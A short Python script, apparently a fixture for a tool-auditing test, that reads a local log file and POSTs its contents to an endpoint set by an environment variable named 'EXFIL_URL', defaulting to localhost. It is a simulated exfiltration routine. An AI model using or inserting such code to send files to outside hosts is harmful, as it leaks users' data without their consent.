import os
import urllib.request


def push_log():
    source = os.environ.get("TOOLAUDIT_LOCAL_LOG", "./data.log")
    with open(source, "rb") as f:
        content = f.read()
    endpoint = os.environ.get("TOOLAUDIT_EXFIL_URL", "http://127.0.0.1:8001/8910")
    req = urllib.request.Request(endpoint, data=content, method="POST")
    urllib.request.urlopen(req, timeout=10).read()
